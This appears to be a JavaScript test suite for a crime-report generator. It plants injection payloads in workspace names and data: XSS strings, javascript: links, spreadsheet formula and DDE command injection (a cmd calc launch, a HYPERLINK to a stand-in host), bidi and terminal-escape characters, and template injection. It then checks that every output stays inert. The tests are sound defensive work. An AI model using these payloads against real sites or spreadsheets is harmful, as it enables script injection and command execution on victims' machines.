// A workspace whose every name is an attack. In each format the names must arrive as words, and only as words.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { emptyFolder, hallmark, launch, open, write } from "./browser.mjs";

const attacks = {
  image: `<img src=x onerror="window.pwned=1">`,
  script: `</script><script>window.pwned=2</script>`,
  svg: `<svg onload=alert(3)><a href="javascript:alert(4)">x</a></svg>`,
  style: `</style></title></textarea><style>*{display:none}</style>`,
  attribute: `" autofocus onfocus="window.pwned=5`,
  markdown: `](javascript:alert(6)) ![x](https://evil.invalid/x.png)`,
  link: `[click](javascript:alert(7)) <javascript:alert(8)> <https://evil.invalid/8>`,
  raw: "`` ` <b>bold</b> | cell | *em* _em_ # heading",
  formula: `=HYPERLINK("https://evil.invalid/"&A1;"x")`,
  command: `+cmd|' /C calc'!A0`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  bidi: `safe\u202etxt.exe\u202c \u2066isolate\u2069 \u200b`,
  escape: `\u001b]0;title\u0007\u001b[2J\u001b[31mred\u009b31m`,
  control: `nul\u0001\u0008bell\u0007del\u007f`,
  entity: `&lt;b&gt; &#60;script&#62; &amp;`,
  template: `{{ 1 + 1 }} {% error("x") %}`,
};

const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

function csv() {
  const header = "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,Crime type,Last outcome category,Context";
  const rows = Object.values(attacks).map((attack, i) =>
    [String(i + 1).padStart(64, "0"), "2020-01", "Testshire Police", "Testshire Police", "-1.483000", "53.552000", quoted(attack),
      `E0100731${i % 10}`, quoted(`${attack} 016A`), "Burglary", quoted(attack), quoted(attack)].join(","));
  return [header, ...rows, ""].join("\n");
}

const template = `---
title: "Places {{ report.options.name }}"
subtitle: "{{ report.partnership }}"
needs:
  datasets: [police_street_crime]
options:
  - {name: name, default: none}
---
# Places {{ report.options.name }}

{{ report.partnership }} asked about {{ report.options.name }}.

{% local places = data.query{dataset = "police_street_crime", by = {"location"}} %}
{% for row in places:rows() do %}
- {{ row.location }}: {{ row.value }}; {{ document.strong(row.location) }}, {{ document.link("https://example.org/", row.location) }}
{% end %}

{% local names, values, rows = {}, {}, {}
for row in places:rows() do
  names[#names + 1] = row.location
  values[#values + 1] = row.value
  rows[#rows + 1] = {row.location, row.value}
end %}

{{ document.table{caption = names[1], columns = {{heading = names[2], row_header = true}, {heading = names[3], kind = "number"}}, rows = rows, footnotes = {names[4]}, source = names[5]} }}

{{ document.figure{title = names[6], alt = names[7], description = names[8], chart = document.bar_chart{categories = names, values = values, name = names[9]}} }}
`;

const yaml = (text) => JSON.stringify(text).replace(/[\u0080-\u00a0\u200b-\u206f]/g, (c) => "\\u" + c.codePointAt(0).toString(16).padStart(4, "0"));
const option = `${attacks.image} ${attacks.link} ${attacks.bidi} ${attacks.raw}`;

let browser, out, workspace;
before(async () => {
  workspace = emptyFolder("hostile");
  write(join(workspace, "hallmark.yaml"),
    `partnership: ${yaml(`${attacks.image}${attacks.script}${attacks.bidi}`)}\nbrand: {organisation: ${yaml(`${attacks.svg}${attacks.style}`)}}\n` +
      `period: {from: 2020-01, to: 2020-01}\ntemplates: [templates]\n`);
  write(join(workspace, "data/2020-01-testshire-street.csv"), csv());
  write(join(workspace, "templates/places/template.md"), template);
  hallmark("report", "places", "-C", workspace, "--set", `name=${option}`, "--format", "html,md,pdf,txt");
  out = join(workspace, "out");
  browser = await launch();
});
after(() => browser?.close());

// What a page would hold had any name become more than words.
async function assertInert(file, allowed = {}) {
  const { page, incidents, close } = await open(browser, file);
  for (const key of ["Tab", "Tab", "Tab", "Enter"]) await page.keyboard.press(key);
  await page.waitForTimeout(200);
  const found = await page.evaluate(() => ({
    pwned: window.pwned ?? null,
    handlers: [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes]).filter((a) => a.name.startsWith("on")).length,
    images: [...document.querySelectorAll("img, image, iframe, object, embed, use, link, form, base")].map((e) => e.outerHTML.slice(0, 120)),
    links: [...document.querySelectorAll("[href], [src]")].map((e) => e.getAttribute("href") ?? e.getAttribute("src"))
      .filter((target) => !/^(#|https:\/\/example\.org\/$)/.test(target)),
    bold: document.querySelectorAll("b, i").length,
  }));
  assert.deepEqual(found, { pwned: null, handlers: 0, images: [], links: [], bold: 0, ...allowed });
  assert.deepEqual(incidents, []);
  const text = await page.evaluate(() => document.body.innerText);
  await close();
  return text;
}

test("nothing in the HTML report executes or leaves, and the names are there to read", async () => {
  const text = await assertInert(join(out, "places.html"));
  for (const name of ["image", "script", "svg", "attribute", "markdown", "formula", "entity", "template"])
    assert.ok(text.includes(attacks[name].trim()), `${name} is not shown as written`);
});

test("every chart is inert as a picture of its own", async () => {
  const pictures = readdirSync(join(out, "places_files"));
  assert.ok(pictures.length > 0);
  for (const picture of pictures) {
    const { page, incidents, close } = await open(browser, join(out, "places_files", picture));
    const found = await page.evaluate(() =>
      [...document.querySelectorAll("*")].filter((e) => ["script", "image", "a", "foreignObject", "style"].includes(e.localName) ||
        [...e.attributes].some((a) => a.name.startsWith("on") || a.name.endsWith("href"))).length);
    assert.equal(found, 0);
    assert.deepEqual(incidents, []);
    await close();
  }
});

test("Markdown stays inert even where a reader lets HTML through", async () => {
  const page = join(out, "from-markdown.html");
  write(page, `<!DOCTYPE html><meta charset="utf-8"><title>x</title>${execFileSync("cmark", ["--unsafe", join(out, "places.md")], { encoding: "utf8" })}`);
  const { page: opened, close } = await open(browser, page);
  const found = await opened.evaluate(() => ({
    pwned: window.pwned ?? null,
    elements: [...document.querySelectorAll("script, svg, style, iframe, b, form")].length,
    handlers: [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes]).filter((a) => a.name.startsWith("on")).length,
    targets: [...document.querySelectorAll("[href], [src]")].map((e) => e.getAttribute("href") ?? e.getAttribute("src"))
      .filter((target) => !/^(#|https:\/\/example\.org\/$|places_files\/figure-\d+\.svg$)/.test(target)),
  }));
  assert.deepEqual(found, { pwned: null, elements: 0, handlers: 0, targets: [] });
  await close();
});

// Characters that steer a terminal or turn the order of a text; tab and line feed are layout.
const steering = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test("no output holds a character that steers a terminal or reorders a text", () => {
  for (const name of ["places.html", "places.md", "places.txt", "ledger.json"])
    assert.doesNotMatch(readFileSync(join(out, name), "utf8"), steering, name);
  for (const picture of readdirSync(join(out, "places_files")))
    assert.doesNotMatch(readFileSync(join(out, "places_files", picture), "utf8"), steering, picture);
});

test("a PDF holds the names as text, without script, action or link of theirs", () => {
  const pdf = join(out, "places.pdf");
  const objects = execFileSync("qpdf", ["--qdf", "--object-streams=disable", pdf, "-"], { maxBuffer: 1 << 28 }).toString("latin1");
  assert.doesNotMatch(objects, /\/(JavaScript|JS|Launch|OpenAction|EmbeddedFile|SubmitForm|AA)\b/);
  const targets = [...objects.matchAll(/\/URI \(([^)]*)\)/g)].map((match) => match[1]);
  assert.ok(targets.every((target) => target === "https://example.org/"), targets.join("\n"));
  const text = execFileSync("pdftotext", [pdf, "-"], { encoding: "utf8" });
  assert.ok(text.includes("=HYPERLINK"));
  assert.doesNotMatch(text.replaceAll("\f", ""), steering);
});

const queried = (format) => hallmark("query", "police_street_crime", "-C", workspace, "--by", "location,lsoa_name,outcome", "--format", format);

test("a spreadsheet opens a CSV of ours without a formula in it", () => {
  const cells = [...queried("csv").matchAll(/"((?:[^"]|"")*)"|([^,\n]+)/g)].map((match) => (match[1] ?? match[2]).replaceAll('""', '"'));
  assert.ok(cells.some((cell) => cell.includes("HYPERLINK")));
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
});

test("the terminal is not steered by what records, workspaces and case studies say", () => {
  const study = join(workspace, "studies/hostile-study.md");
  write(study, readFileSync(join(process.env.STUDIES, "alley-gating-liverpool.md"), "utf8")
    .replace("id: alley-gating-liverpool", "id: hostile-study")
    .replace("title: Alley-gates behind terraced houses, Liverpool", `title: ${yaml(attacks.escape + attacks.bidi)}`)
    .replace("## Scanning", `## Scanning ${attacks.escape}${attacks.bidi}`));
  const attempts = [
    ["query", "police_street_crime", "-C", workspace, "--by", "location", "--format", "table"],
    ["query", "police_street_crime", "-C", workspace, "--by", "location", "--format", "csv"],
    ["query", "police_street_crime", "-C", workspace, "--by", "location", "--format", "json"],
    ["check", "-C", workspace],
    ["trace", join(out, "places.html"), "n1"],
    ["verify", join(out, "places.html")],
    ["practice", "show", "hostile-study", "--base", join(workspace, "studies")],
    ["practice", "list", "--base", join(workspace, "studies")],
    ["query", attacks.escape, "-C", workspace],
    ["report", attacks.escape, "-C", workspace],
  ];
  for (const words of attempts) {
    let said = "";
    try {
      said = hallmark(...words);
    } catch (failure) {
      said = failure.stdout + failure.stderr;
    }
    assert.notEqual(said, "");
    assert.doesNotMatch(said, steering, words.join(" "));
  }
});
